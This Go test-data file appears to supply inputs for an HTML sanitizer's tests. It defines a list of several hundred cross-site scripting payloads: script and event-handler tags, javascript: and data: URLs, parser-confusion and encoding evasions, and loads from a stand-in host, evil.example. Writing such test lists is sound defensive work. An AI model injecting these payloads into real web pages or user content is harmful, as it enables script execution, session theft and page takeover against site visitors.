package cleantest

// Hostile is markup that makes some reader run a script, load a page, take over
// the look of the whole or tell someone that it was read: by tags, attributes,
// addresses, and by ways to hide them.
var Hostile = []string{
	// Elements, in every spelling.
	`<script>alert(1)</script>`, `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/xss src="http://evil.example/x.js"></script>`, `<<script>alert(1);//<</script>`, `<script>a`, `<script src=//evil.example/j`,
	`<script><!-- </script> --><img src=x onerror=alert(1)>`, "<script\x00>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
	`</script><script>alert(1)</script>`, `<!--<script>--><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<style>@import 'http://evil.example/x.css';</style>`, `<style>body{background:url(javascript:alert(1))}</style>`,
	`<style><img src="</style><img src=x onerror=alert(1)//">`, `<link rel=stylesheet href=http://evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="javascript:alert(1);//">`, `<base href=http://evil.example/>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src=http://evil.example/ <`,
	`<object data="javascript:alert(1)"></object>`, `<object type=text/x-scriptlet data=http://evil.example/>`, `<embed src="http://evil.example/x.swf" allowscriptaccess=always>`,
	`<applet code=x archive=http://evil.example/>`, `<frameset><frame src="javascript:alert(1)"></frameset>`, `<layer src=http://evil.example/x>`, `<ilayer src=x>`,
	`<bgsound src="javascript:alert(1)">`, `<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button></form>`,
	`<isindex type=image src=1 onerror=alert(1)>`, `<input type=image src=x onerror=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`, `<noframes><p title="</noframes><img src=x onerror=alert(1)>">`,
	`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`, `<title><p title="</title><img src=x onerror=alert(1)>">`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`, `<plaintext><script>alert(1)</script>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<select><style></select><script>alert(1)</script>`,
	`<xml id=x><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>`, `<xss style="x:expression(alert(1))">`, `<custom-element onclick=alert(1) is=x>y</custom-element>`, `<portal src=http://evil.example/>`, `<slot name=x onslotchange=alert(1)>`,
	`<dialog open>x</dialog>`, `<comment><img src="</comment><img src=x onerror=alert(1)//">`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<html:script>alert(1)</html:script>`,
	`<?xml-stylesheet href="javascript:alert(1)"?>`, `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`, `<?import namespace=t implementation="#default#time2">`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	// Attributes.
	`<p onclick="alert(1)">x</p>`, `<p ONCLICK=alert(1)>x</p>`, `<p/onclick=alert(1)>x</p>`, "<p\nonclick\n=\nalert(1)>x</p>", "<p\x0bonclick=alert(1)>x</p>", "<p\x0conclick=alert(1)>x</p>",
	`<p title="x"onclick=alert(1)>x</p>`, `<p title='x'onclick='alert(1)'>x</p>`, `<p """><img src=x onerror=alert(1)>">`, `<img """><script>alert(1)</script>">`, `<p title=">" onclick=alert(1)>x</p>`,
	`<a href="http://a.example/" onmouseover=alert(1)>x</a>`, "<img src=`x` onerror=`alert(1)`>", `<img src="x` + "`" + ` onerror=alert(1)">`, `<p style="background:url(javascript:alert(1))">x</p>`, `<p style="position:fixed;top:0;left:0;width:100%">x</p>`,
	`<p style="behavior:url(http://evil.example/x.htc)">x</p>`, `<p style="-moz-binding:url(http://evil.example/x#y)">x</p>`, `<p style="width:expression(alert(1))">x</p>`, `<p id=location name=cookie>x</p>`, `<a name=body id=forms>x</a>`,
	`<p class="header">x</p>`, `<a target=_top href=http://a.example/>x</a>`, `<a ping=http://evil.example/ href=http://a.example/>x</a>`, `<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)" src=http://a.example/x>`, `<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>`,
	`<p data-x="y" aria-label=z contenteditable accesskey=x tabindex=1 draggable=true>x</p>`, `<img usemap="javascript:alert(1)" longdesc="javascript:alert(1)" src=http://a.example/x>`, `<a attributionsrc=http://evil.example/ href=http://a.example/>x</a>`,
	`<video poster="javascript:alert(1)" src="http://a.example/v" autoplay></video>`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<p xml:base="javascript:alert(1)"><a href="x">y</a></p>`, `<a xlink:href="javascript:alert(1)" href="http://a.example/">x</a>`,
	`<div itemscope itemref=x popover anchor=y is=z nonce=1 part=q>x</div>`, `<button popovertarget=x onbeforetoggle=alert(1)>x</button>`, `<p onclick=&#97;lert(1)>x</p>`, `<p &#111;nclick=alert(1)>x</p>`,
	// Addresses.
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="java&#x09;script:alert(1)">x</a>`, `<a href="java&NewLine;script:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#0000106avascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", "<a href=\" \u00a0javascript:alert(1)\">x</a>", "<a href=\"\u2028javascript:alert(1)\">x</a>", `<a href="&#14; javascript:alert(1)">x</a>`, `<a href='javascript:alert("x")'>x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="livescript:x">x</a>`, `<a href="mocha:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`,
	`<a href="view-source:javascript:alert(1)">x</a>`, `<a href="jar:http://evil.example/x!/y">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:http://a.example/x">x</a>`, `<a href="about:blank">x</a>`, `<a href="ms-its:mhtml:file://x">x</a>`, `<a href="intent://x#Intent;end">x</a>`,
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml,<svg onload=alert(1)>">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src=" data:text/html,x">`, `<img src="data:IMAGE/SVG+xml;base64,PHN2Zz4=">`, `<img src="data:image/gif,x" data-src="javascript:alert(1)">`, `<img data-src="javascript:alert(1)">`,
	`<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">`, `<picture><source srcset="javascript:alert(1)"></picture>`, `<video src="data:text/html,x"></video>`, `<source src="javascript:alert(1)">`, `<track src="javascript:alert(1)">`, `<map><area href="javascript:alert(1)"></map>`,
	`<a href="//javascript:alert(1)">x</a>`, `<a href="javascript://a.example/%0aalert(1)">x</a>`, `<a href="http://a.example/&quot; onclick=&quot;alert(1)">x</a>`, `<a href="http://a.example/"><a href="javascript:alert(1)">x</a></a>`, `<a href=javascript:alert(1)>x`, `<a href="\x6aavascript:alert(1)">x</a>`, `<a href="java` + "\u00ad" + `script:alert(1)">x</a>`,
	// Escaped, and cut.
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
	`<img src=x onerror=alert(1)`, `<img src="http://a.example/x`, `<p title="`, `<a href="javascript:alert(1)`, `<`, `</`, `<!`, `<!-`, `<!--`, `<!-->x<script>alert(1)</script>`, `<!--->x<img src=x onerror=alert(1)>`, `<!-- --!><img src=x onerror=alert(1)>`, `<? ><img src=x onerror=alert(1)>`, `</ ><img src=x onerror=alert(1)>`, `<//><img src=x onerror=alert(1)>`,
	// Ends that belong to the page around it.
	`</div></div></body></html><script>alert(1)</script>`, `</td></tr></table><p>x`, `</p></article></main>x`, `<table><tr><td></table></table>x`, `<body onload=alert(1) background=http://evil.example/>x</body>`, `<html onclick=alert(1)>x</html>`, `<head><script>alert(1)</script></head>x`,
}
